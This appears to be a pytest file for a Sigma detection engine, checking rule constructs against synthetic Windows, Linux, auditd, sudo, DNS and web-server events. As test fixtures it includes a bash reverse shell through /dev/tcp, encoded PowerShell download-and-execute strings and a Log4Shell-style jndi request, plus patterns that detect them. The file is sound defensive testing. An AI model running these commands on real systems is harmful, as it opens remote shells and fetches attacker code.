"""Every construct of Sigma, by a rule of a few lines against what the agents really write."""

from __future__ import annotations

import base64

import pytest
from watch_sigma import PROCESSES, SECURITY, executed, linux_line, meets, raw_event, windows_event

from agents.pihole_queries import Query, Repetition
from core.clock import utc_now

ENCODED = base64.b64encode("xIEX (DownloadString)".encode("utf-16-le")).decode()
POWERSHELL = windows_event(
    4688, NewProcessName=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", SubjectUserName="alice",
    CommandLine=f"PowerShell.exe -NoProfile /enc {ENCODED}",
    ParentProcessName=r"C:\Windows\explorer.exe", NewProcessId="0x2bc",
)  # fmt: skip
FAILED = windows_event(
    4625, TargetUserName="alice", TargetDomainName="ALICE", LogonType="3", IpAddress="::ffff:192.0.2.45",
    IpPort="53012", WorkstationName="-", Status="0xc000006d", ProcessName=r"C:\a*b\x?y.exe",
)  # fmt: skip

CONSTRUCTS = [
    # values
    ("a text is compared as a whole, whatever its case", FAILED, SECURITY, "sel: {TargetUserName: ALICE}", True),
    ("a part is not the whole", FAILED, SECURITY, "sel: {TargetUserName: alic}", False),
    ("of a list one is enough", FAILED, SECURITY, "sel: {TargetUserName: [bob, alice]}", True),
    ("a number", FAILED, SECURITY, "sel: {EventID: 4625, LogonType: 3}", True),
    ("a hexadecimal number that YAML has read", FAILED, SECURITY, "sel: {Status: 0xC000006D}", True),
    ("another number", FAILED, SECURITY, "sel: {EventID: 4625, LogonType: 10}", False),
    ("* is anything", FAILED, SECURITY, r"sel: {ProcessName: 'C:\\a*exe'}", True),
    ("* inside and ? is one character", FAILED, SECURITY, "sel: {Status: '0x*00?d'}", True),
    ("? is not two characters", FAILED, SECURITY, "sel: {Status: '0xc000006d?'}", False),
    ("an escaped * is a star", FAILED, SECURITY, r"sel: {ProcessName|contains: 'a\*b'}", True),
    ("an escaped * is nothing else", POWERSHELL, PROCESSES, r"sel: {Image|contains: 'W\*s'}", False),
    ("an escaped ? is a question mark", FAILED, SECURITY, r"sel: {ProcessName|endswith: 'x\?y.exe'}", True),
    ("an escaped backslash before *", FAILED, SECURITY, r"sel: {ProcessName: 'C:\\*'}", True),
    ("* alone is any value", FAILED, SECURITY, "sel: {TargetUserName: '*'}", True),
    ("null is no value", FAILED, SECURITY, "sel: {WorkstationName: null}", True),
    ("null is not a value", FAILED, SECURITY, "sel: {TargetUserName: null}", False),
    ("what Windows leaves empty is a dash", FAILED, SECURITY, "sel: {WorkstationName: '-'}", True),
    ("an empty text is no value", FAILED, SECURITY, "sel: {WorkstationName: ''}", True),
    # selections
    ("all fields of a map must be", FAILED, SECURITY, "sel: {TargetUserName: alice, LogonType: 2}", False),
    ("of a list of maps one must be", FAILED, SECURITY, "sel: [{TargetUserName: bob}, {TargetUserName: alice}]", True),
    ("and, or, not", FAILED, SECURITY,
     "{a: {LogonType: 3}, b: {TargetUserName: bob}, c: {TargetUserName: carol}, condition: a and not (b or c)}", True),
    ("not", FAILED, SECURITY, "{a: {LogonType: 3}, b: {TargetUserName: alice}, condition: a and not b}", False),
    ("1 of a pattern", FAILED, SECURITY,
     "{sel_a: {LogonType: 9}, sel_b: {LogonType: 3}, condition: 1 of sel_*}", True),
    ("all of a pattern", FAILED, SECURITY,
     "{sel_a: {LogonType: 9}, sel_b: {LogonType: 3}, condition: all of sel_*}", False),
    ("all of them", FAILED, SECURITY, "{a: {LogonType: 3}, b: {TargetUserName: alice}, condition: all of them}", True),
    ("1 of them", FAILED, SECURITY, "{a: {LogonType: 9}, b: {TargetUserName: alice}, condition: 1 of them}", True),
    ("two conditions are either", FAILED, SECURITY,
     "{a: {LogonType: 9}, b: {TargetUserName: alice}, condition: [a, b]}", True),
    # modifiers
    ("contains", POWERSHELL, PROCESSES, "sel: {CommandLine|contains: 'NOPROFILE'}", True),
    ("startswith", POWERSHELL, PROCESSES, "sel: {CommandLine|startswith: powershell}", True),
    ("startswith is not contains", POWERSHELL, PROCESSES, "sel: {CommandLine|startswith: NoProfile}", False),
    ("endswith", POWERSHELL, PROCESSES, r"sel: {Image|endswith: '\PowerShell.exe'}", True),
    ("contains all", POWERSHELL, PROCESSES, "sel: {CommandLine|contains|all: [profile, enc]}", True),
    ("contains all, one of them not", POWERSHELL, PROCESSES, "sel: {CommandLine|contains|all: [profile, x1]}", False),
    ("contains with * inside", POWERSHELL, PROCESSES, "sel: {CommandLine|contains: 'shell*enc'}", True),
    ("re is part of the text", POWERSHELL, PROCESSES, r"sel: {CommandLine|re: '/e[nc]+\s'}", True),
    ("re minds the case", POWERSHELL, PROCESSES, "sel: {CommandLine|re: 'noprofile'}", False),
    ("re with i", POWERSHELL, PROCESSES, "sel: {CommandLine|re|i: 'noprofile'}", True),
    ("re with m and s", POWERSHELL, PROCESSES, "sel: {CommandLine|re|i|m|s: '^power.*enc'}", True),
    ("cased", POWERSHELL, PROCESSES, "sel: {CommandLine|cased|contains: NoProfile}", True),
    ("cased, of what is always the same", FAILED, SECURITY, "sel: {Channel|cased: Security, EventID|re: ^46}", True),
    ("cased, in another case", POWERSHELL, PROCESSES, "sel: {CommandLine|contains|cased: noprofile}", False),
    ("wide base64offset", POWERSHELL, PROCESSES, "sel: {CommandLine|wide|base64offset|contains: DownloadString}", True),
    ("utf16 base64offset", POWERSHELL, PROCESSES, "sel: {CommandLine|utf16|base64offset|contains: other}", False),
    ("base64", windows_event(4688, NewProcessName="a", CommandLine="x Zm9vYmFy"), PROCESSES,
     "sel: {CommandLine|base64|contains: foobar}", True),
    ("windash", POWERSHELL, PROCESSES, "sel: {CommandLine|windash|contains: ' -enc '}", True),
    ("without windash", POWERSHELL, PROCESSES, "sel: {CommandLine|contains: ' -enc '}", False),
    ("cidr", FAILED, SECURITY, "sel: {IpAddress|cidr: 192.0.2.0/24}", True),
    ("another cidr", FAILED, SECURITY, "sel: {IpAddress|cidr: [192.0.3.0/24, '2001:db8::/32']}", False),
    ("lt", FAILED, SECURITY, "sel: {IpPort|lt: 53013}", True),
    ("lte", FAILED, SECURITY, "sel: {IpPort|lte: 53012}", True),
    ("gt", FAILED, SECURITY, "sel: {IpPort|gt: 53012}", False),
    ("gte", FAILED, SECURITY, "sel: {IpPort|gte: 53012}", True),
    ("a hexadecimal number", POWERSHELL, SECURITY, "sel: {NewProcessId|gt: 699}", True),
    ("exists", FAILED, SECURITY, "sel: {IpAddress|exists: true}", True),
    ("exists not", FAILED, SECURITY, "sel: {WorkstationName|exists: false}", True),
    ("fieldref", FAILED, SECURITY, "sel: {TargetUserName|fieldref: TargetDomainName}", True),
    ("fieldref to another", FAILED, SECURITY, "sel: {TargetUserName|fieldref: Status}", False),
    ("neq", FAILED, SECURITY, "sel: {TargetUserName|neq: bob}", True),
]  # fmt: skip


@pytest.mark.parametrize(
    ("event", "source", "detection", "is_met"), [row[1:] for row in CONSTRUCTS], ids=[row[0] for row in CONSTRUCTS]
)
def test_a_construct(event: object, source: dict[str, str], detection: str, is_met: bool) -> None:
    assert meets(event, source, detection) is is_met  # type: ignore[arg-type]


SSHD = linux_line(
    "2026-03-02T09:14:03Z web sshd[1841]: Failed password for invalid user admin from 198.51.100.23 port 50112 ssh2"
)
AUTH = {"product": "linux", "service": "auth"}


@pytest.mark.parametrize(
    ("detection", "is_met"),
    [
        ("sel: [nothing, 'INVALID user']", True),
        ("sel: ['invalid*admin']", True),
        ("sel: ['admin*invalid']", False),
        ("sel: {'|all': [failed, admin]}", True),
        ("sel: {'|all': [failed, bob]}", False),
        ("sel: {'|re': 'user \\w+ from'}", True),
        ("sel: [50112]", True),
        ("{sel: [failed], near: {source_ip|cidr: 198.51.100.0/24}, condition: sel and not near}", False),
        ("{sel: [failed], far: {source_ip|cidr: 203.0.113.0/24}, condition: sel and not far}", True),
        ("sel: {user: admin, severity|gte: 3, event_type: LOGIN_FAIL}", True),
    ],
)
def test_keywords_are_looked_for_in_the_whole_line(detection: str, is_met: bool) -> None:
    assert meets(SSHD, AUTH, detection) is is_met


@pytest.mark.parametrize(("service", "is_met"), [("sshd", True), ("auth", True), ("syslog", True), ("sudo", False)])
def test_a_service_of_linux_is_its_programs(service: str, is_met: bool) -> None:
    assert meets(SSHD, {"product": "linux", "service": service}, "sel: [failed]") is is_met


def test_keywords_of_a_product_are_looked_for_in_all_its_events_and_no_others() -> None:
    assert meets(FAILED, {"product": "windows"}, "sel: [alice]")
    assert meets(raw_event("MACOS", "alice"), {"product": "macos"}, "sel: [alice]")
    assert not meets(FAILED, {"product": "linux"}, "sel: [alice]")
    assert meets(executed("curl", "-s"), {"product": "linux"}, "sel: ['command: curl']")


@pytest.mark.parametrize(
    ("detection", "is_met"),
    [
        ("sel: {type: EXECVE, a0: bash, a2|contains: /dev/tcp/}", True),
        ("sel: {type: EXECVE, a1: bash}", False),
        ("sel: {type: SYSCALL, SYSCALL: execve, exe|endswith: /bash, key: exec}", True),
        ("sel: {type: SYSCALL, syscall: execve}", True),
        ("sel: {type: SYSCALL, syscall: 59, auid: 1000}", True),
        ("sel: {type: SYSCALL, a1: -c}", False),
        ("sel: {a1: -c}", True),
    ],
)
def test_a_record_of_auditd_has_its_own_fields(detection: str, is_met: bool) -> None:
    event = executed("bash", "-c", "bash -i >& /dev/tcp/192.0.2.66/4444 0>&1")
    assert meets(event, {"product": "linux", "service": "auditd"}, detection) is is_met


@pytest.mark.parametrize(
    "event",
    [
        executed("curl", "-o", "/tmp/a b", exe="/usr/bin/curl", uid="0"),
        linux_line(
            "Mar  2 09:16:02 web-01 sudo:  anna : TTY=pts/0 ; PWD=/home ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/a b"
        ),
    ],
)
def test_a_process_of_linux_is_told_by_auditd_and_by_sudo(event: object) -> None:
    source = {"product": "linux", "category": "process_creation"}
    assert meets(event, source, "sel: {Image: /usr/bin/curl, CommandLine|contains: '-o /tmp/a b', User: root}")  # type: ignore[arg-type]
    assert not meets(event, source, "sel: {CommandLine|contains: wget}")  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "line",
    [
        "anna : TTY=pts/0 ; PWD=/home/a b ; USER=#-1 ; COMMAND=/usr/bin/id ; USER=x",
        "anna : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/a b ; USER=#-1 ; COMMAND=/usr/bin/id ; USER=x",
    ],
)
def test_a_line_of_sudo_has_what_sudo_tells(line: str) -> None:
    event = linux_line(f"Mar  2 09:16:02 web-01 sudo: {line}")
    source = {"product": "linux", "service": "sudo"}
    assert meets(event, source, "sel: {USER: '#-*', TTY: pts/0, PWD: /home/a b, COMMAND: '/usr/bin/id ; USER=x'}")
    assert not meets(event, source, "sel: {USER: x}")


def test_what_a_pihole_blocked_is_asked_for_by_its_name() -> None:
    query = Query(1, utc_now(), "AAAA", 1, "ads.example.com", "192.0.2.7", "")
    event = raw_event("PIHOLE", Repetition(query, query, query.at, query.at, 2, ["A", "AAAA"]).text(), "DNS_BLOCK")
    assert meets(event, {"category": "dns"}, "sel: {query|endswith: .EXAMPLE.com, record_type|contains: AAAA}")
    assert not meets(event, {"category": "dns"}, "sel: {query: example.com}")


def test_a_command_that_sudo_refused_is_no_process() -> None:
    line = (
        "Mar  2 09:16:02 web-01 sudo: carl : user NOT in sudoers ; TTY=pts/2 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id"
    )
    assert not meets(linux_line(line), {"product": "linux", "category": "process_creation"}, "sel: {Image: '*'}")


def test_an_exception_by_what_this_event_does_not_tell_keeps_a_rule_quiet() -> None:
    detection = (
        r"{sel: {Image|endswith: '\net.exe'}, known: {CommandLine|contains: backup}, condition: sel and not known}"
    )
    image = r"C:\Windows\System32\net.exe"
    assert meets(windows_event(4688, NewProcessName=image, CommandLine="net user"), PROCESSES, detection)
    assert not meets(windows_event(4688, NewProcessName=image), PROCESSES, detection)
    by_parent = detection.replace("CommandLine", "ParentImage")
    assert not meets(windows_event(4688, NewProcessName=image), PROCESSES, by_parent)
    assert meets(windows_event(4688, NewProcessName=image, ParentProcessName="x"), PROCESSES, by_parent)
    null = detection.replace("CommandLine|contains: backup", "CommandLine: null")
    assert meets(windows_event(4688, NewProcessName=image, CommandLine="net user"), PROCESSES, null)
    assert not meets(windows_event(4688, NewProcessName=image), PROCESSES, null)
    assert meets(windows_event(4688, NewProcessName=image), PROCESSES, r"sel: {Image|endswith: '\net.exe'}")


def test_a_script_of_powershell_a_request_and_malware_have_their_sources() -> None:
    script = windows_event(4104, "Microsoft-Windows-PowerShell", ScriptBlockText="IEX (New-Object Net.WebClient)")
    assert meets(script, {"product": "windows", "category": "ps_script"}, "sel: {ScriptBlockText|contains: webclient}")
    request = '203.0.113.1 - - [24/Nov/2026:22:14:45 +0000] "GET /a?x=${jndi:ldap://h/a} HTTP/1.1" 200 2 "-" "curl/8"'
    attack = linux_line(request)
    assert meets(
        attack, {"category": "webserver"}, "sel: {cs-method: GET, cs-uri-query|contains: jndi, sc-status: 200}"
    )
    malware = windows_event(1116, "Microsoft-Windows-Windows Defender", **{"Threat Name": "EICAR", "Path": "C:\\x"})
    assert meets(malware, {"product": "windows", "service": "windefend"}, "sel: {EventID: 1116, 'Threat Name': eicar}")
